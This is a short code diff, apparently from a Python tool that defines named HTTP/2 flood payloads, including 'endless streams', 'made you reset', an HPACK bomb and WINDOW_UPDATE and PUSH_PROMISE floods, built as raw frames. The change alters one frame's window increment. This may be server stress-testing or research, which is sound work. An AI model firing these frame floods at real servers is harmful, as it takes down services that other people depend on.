@@ -147,7 +147,7 @@ FLOODS = {
                                    lambda n, h: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))),
     "endless streams": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h)),
     "made you reset": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h) +
-                       frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 0))),
+                       frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 0x7FFFFFFF))),
     "HPACK bomb": (None, bomb),
     "GET": (None, lambda n, h: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, b"\x82\x87\x84\x01\x01x")),
     "PUSH_PROMISE": (None, lambda n, h: frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2))),
